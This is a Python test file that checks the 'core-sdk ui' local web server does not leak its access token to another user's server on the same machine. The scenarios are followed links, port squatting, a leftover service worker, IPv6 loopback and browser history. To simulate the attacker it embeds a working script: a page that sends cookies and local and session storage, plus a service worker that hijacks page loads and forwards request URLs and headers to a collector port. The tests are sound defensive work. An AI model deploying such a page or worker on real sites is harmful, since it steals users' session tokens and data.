"""What another user of the machine gets from a browser that has the page open: nothing that opens the page.

The other user has servers of his own, to which the browser is led, and takes the port of a server that has ended.
"""

from __future__ import annotations

import json
import os
import signal
import socket
import sqlite3
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import TYPE_CHECKING
from urllib.parse import urlsplit

import pytest
from browser.conftest import CHROMIUM_WITH_WINDOWS, OPTIONS
from browser.seeing import expect, rows
from home.journals import new_trial, record, report
from interfaces.cli.commands import COMMAND
from parts import needs
from ports import reserved_port
from processes import wait_for

from core_sdk._home import Home

if TYPE_CHECKING:
    from playwright.sync_api import Browser, BrowserContext, Page

_NOBODY = 65534

# A server of another user at both addresses of loopback. It writes each request that it gets as a line of JSON, and
# leaves a service worker wherever it is asked. The worker answers in the place of whoever has the port afterwards, and
# sends what it sees to the port that is named last.
_STRANGER = """
import encodings.idna, http.server, json, os, socket, sys, threading
port, collector = map(int, sys.argv[1:])
os.setgroups([]); os.setgid(UID); os.setuid(UID)

SEND = "fetch('http://127.0.0.1:%d/seen', { method: 'POST', mode: 'no-cors', body: BODY })" % collector
PAGE = '''<!doctype html><title>stranger</title><script>
fetch('/own', { method: 'POST', credentials: 'include', body: document.cookie + ' ' + location.href + ' ' +
  JSON.stringify({ ...sessionStorage, ...localStorage }) }).then(() =>
  navigator.serviceWorker.register('/worker.js')).then(() => navigator.serviceWorker.ready).then(() => {
    document.title = 'registered';
  });
</script>'''
WORKER = '''
addEventListener('install', () => skipWaiting());
addEventListener('activate', (event) => event.waitUntil(clients.claim()));
addEventListener('fetch', (event) => {
  const { url, headers, mode } = event.request;
  event.waitUntil(%s);
  if (mode !== 'navigate') return;
  const page = `<title>x</title><script>%s.then(() => { document.title = 'stolen'; })</script>`;
  event.respondWith(new Response(page, { headers: { 'Content-Type': 'text/html' } }));
});
''' % (SEND.replace("BODY", "JSON.stringify([url, ...headers])"), SEND.replace("BODY", "location.href"))


class Handler(http.server.BaseHTTPRequestHandler):
    def log_message(self, *_):
        pass

    def do_GET(self):
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode()
        print(json.dumps([self.path, dict(self.headers), body]), flush=True)
        kind, answer = ("text/javascript", WORKER) if self.path == "/worker.js" else ("text/html", PAGE)
        self.send_response(200)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(answer)))
        self.end_headers()
        self.wfile.write(answer.encode())

    do_POST = do_OPTIONS = do_GET


class Server(http.server.ThreadingHTTPServer):
    def __init__(self, family, address, port):
        self.address_family = family
        super().__init__((address, port), Handler)
        threading.Thread(target=self.serve_forever, daemon=True).start()


first = Server(socket.AF_INET, "127.0.0.1", port)
if socket.has_ipv6:
    try:
        Server(socket.AF_INET6, "::1", first.server_port)
    except OSError:
        pass  # no such address here
print(first.server_port, flush=True)
threading.Event().wait()
""".replace("UID", str(_NOBODY))


class Stranger:
    """A server of another user."""

    def __init__(self, directory: Path, port: int, collector: int) -> None:
        self._output = directory / f"stranger-{port}.jsonl"
        with self._output.open("w") as output:
            command = [sys.executable, "-c", _STRANGER, str(port), str(collector)]
            self._process = subprocess.Popen(command, stdout=output)
        wait_for(lambda: any(map(str.isdecimal, self._lines())))  # a tab may ask before that
        self.port = next(int(line) for line in self._lines() if line.isdecimal())

    @property
    def heard(self) -> str:
        """Returns all addresses, headers and bodies that the server got."""
        return "\n".join(line for line in self._lines() if not line.isdecimal())

    def end(self) -> None:
        self._process.kill()
        self._process.wait()

    def _lines(self) -> list[str]:
        return self._output.read_text().splitlines()


StartStranger = Callable[..., Stranger]
StartUi = Callable[..., "Ui"]


class Ui:
    """`core-sdk ui` of the browser's own user."""

    def __init__(self, home: Home, *options: str) -> None:
        self._process = subprocess.Popen(
            [*COMMAND, "ui", "--no-browser", *options],
            env=os.environ | {"CORE_SDK_HOME": str(home.root)},
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        assert self._process.stdout is not None
        self.url = self._process.stdout.readline().strip()

    @property
    def token(self) -> str:
        return self.url.rpartition("token=")[2]

    @property
    def port(self) -> int:
        return urlsplit(self.url).port or 80

    def end(self) -> str:
        self._process.send_signal(signal.SIGTERM)
        return self._process.communicate()[1]


@pytest.fixture
def own_home(home: Home) -> Home:
    record(new_trial(home), report(1, loss=0.5))
    return home


@pytest.fixture
def start_ui(own_home: Home) -> Iterator[StartUi]:
    """Starts `core-sdk ui` with these options."""
    started: list[Ui] = []

    def start(*options: str) -> Ui:
        started.append(Ui(own_home, *options))
        return started[-1]

    yield start
    for each in started:
        each.end()


@pytest.fixture
def start_stranger(tmp_path: Path) -> Iterator[StartStranger]:
    if os.geteuid() != 0:
        pytest.skip("NOT TESTED: other users; only root can be another user")
    started: list[Stranger] = []

    def start(port: int = 0, *, collector: int = 0) -> Stranger:
        started.append(Stranger(tmp_path, port, collector))
        return started[-1]

    yield start
    for each in started:
        each.end()


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    context = browser.new_context()
    yield context.new_page()
    context.close()


def _enter(page: Page, ui: Ui) -> None:
    page.goto(ui.url)
    expect(rows(page)).to_have_count(1)


def _follow(page: Page, address: str) -> None:
    """Follows a link to the address, with everything that the browser would send."""
    page.evaluate("address => { location.href = address; }", address)
    page.wait_for_function("() => document.title === 'registered'")


def _hosts(ui: Ui) -> list[str]:
    """Returns the names by which the browser reaches servers of this machine."""
    return list(dict.fromkeys(["127.0.0.1", "localhost", urlsplit(ui.url).hostname or ""]))


def test_a_server_of_another_user_to_which_a_link_leads_gets_no_token(
    start_ui: StartUi, start_stranger: StartStranger, page: Page
) -> None:
    """Another user's server on this machine does not get the token, under any of its names."""
    ui, stranger = start_ui(), start_stranger()
    _enter(page, ui)

    for host in _hosts(ui):
        _follow(page, f"http://{host}:{stranger.port}/")

    assert stranger.heard.count("/own") == len(_hosts(ui))
    assert ui.token not in stranger.heard


@pytest.mark.parametrize(
    "has_own_token",
    [
        pytest.param(False, id="new token each time"),
        pytest.param(True, id="token of one's own"),
    ],
)
def test_who_takes_the_port_of_a_server_that_has_ended_does_not_get_the_token_of_the_next(
    start_ui: StartUi, start_stranger: StartStranger, page: Page, tmp_path: Path, has_own_token: bool
) -> None:
    """A server that takes over an ended server's port does not get the next server's token."""
    (tmp_path / "token").write_text("a" * 32)
    (tmp_path / "token").chmod(0o600)
    options = ["--token", f"@{tmp_path / 'token'}"] if has_own_token else []
    collector = start_stranger()
    with reserved_port() as port:  # servers of other tests would take it meanwhile
        options += ["--port", str(port)]
        first = start_ui(*options)
        _enter(page, first)
        first.end()
        squatter = start_stranger(port, collector=collector.port)
        for host in _hosts(first):
            _follow(page, f"http://{host}:{port}/")
        squatter.end()
        second = start_ui(*options)

    page.goto(second.url)
    page.wait_for_function("() => document.title === 'stolen' || document.querySelector('.grid-row:not(.waiting)')")

    assert page.title() != "stolen"
    assert (second.token == first.token) is has_own_token
    assert second.token not in squatter.heard + collector.heard


def test_a_worker_that_was_left_at_a_fixed_address_ends(
    start_ui: StartUi, start_stranger: StartStranger, page: Page
) -> None:
    """Soon after the browser has been there once; so long it answers in the place of the page."""
    squatter = start_stranger(collector=start_stranger().port)
    page.goto(f"http://127.0.0.1:{squatter.port}/")
    page.wait_for_function("() => document.title === 'registered'")
    squatter.end()
    ui = start_ui("--port", str(squatter.port))
    address = f"http://127.0.0.1:{ui.port}/"

    page.goto(address)
    page.wait_for_function("() => document.title === 'stolen'")
    wait_for(lambda: page.evaluate("() => navigator.serviceWorker.getRegistrations()") == [])
    page.goto(address)

    expect(page.get_by_text("Open the address that `core-sdk ui` has printed").first).to_be_visible()


def test_a_tab_that_a_link_has_opened_needs_no_address(start_ui: StartUi, page: Page) -> None:
    """A new tab gets the token from other tabs, or says how to open the page."""
    ui = start_ui()
    _enter(page, ui)
    link = page.url

    other = page.context.new_page()
    other.goto(link)
    expect(rows(other)).to_have_count(1)
    page.close()
    other.close()
    browser = page.context.browser
    assert browser is not None
    alone = browser.new_page()
    alone.goto(link)
    expect(alone.get_by_text("Open the address that `core-sdk ui` has printed").first).to_be_visible()
    alone.close()


def test_nobody_listens_beside_the_server_at_the_other_address_of_loopback(
    start_ui: StartUi, start_stranger: StartStranger, page: Page
) -> None:
    """A browser may try ::1 first for a name of this machine: a port of which anybody else has a part is not taken."""
    with reserved_port() as port, socket.socket(socket.AF_INET6) as other:
        other.bind(("::1", port))
        other.listen()

        refused = start_ui("--port", str(port))
        errors = refused.end()
    ui = start_ui()
    stranger = start_stranger(0)
    _enter(page, ui)

    assert (refused.url, f"port {port}" in errors) == ("", True)
    with socket.socket(socket.AF_INET6) as late, pytest.raises(OSError, match="in use"):
        late.bind(("::1", ui.port))
    assert stranger.heard == ""


@needs("chromium")
def test_the_address_with_the_token_is_in_no_history(browser: Browser, start_ui: StartUi, tmp_path: Path) -> None:
    """The address with the token is not in the browser's history."""
    ui = start_ui()
    profile = tmp_path / "profile"
    context: BrowserContext = browser.browser_type.launch_persistent_context(
        str(profile), executable_path=CHROMIUM_WITH_WINDOWS, args=list(OPTIONS)
    )
    page = context.pages[0]
    _enter(page, ui)
    shown = page.url
    page.get_by_role("link", name="Queue").click()
    page.go_back()
    expect(rows(page)).to_have_count(1)
    before = page.url
    page.reload()
    expect(rows(page)).to_have_count(1)
    context.close()

    with sqlite3.connect(profile / "Default" / "History") as history:
        listed = [url for (url,) in history.execute("SELECT url FROM urls WHERE NOT hidden")]

    assert any("#/queue" in url for url in listed)
    assert ui.token not in json.dumps([shown, before, *listed])
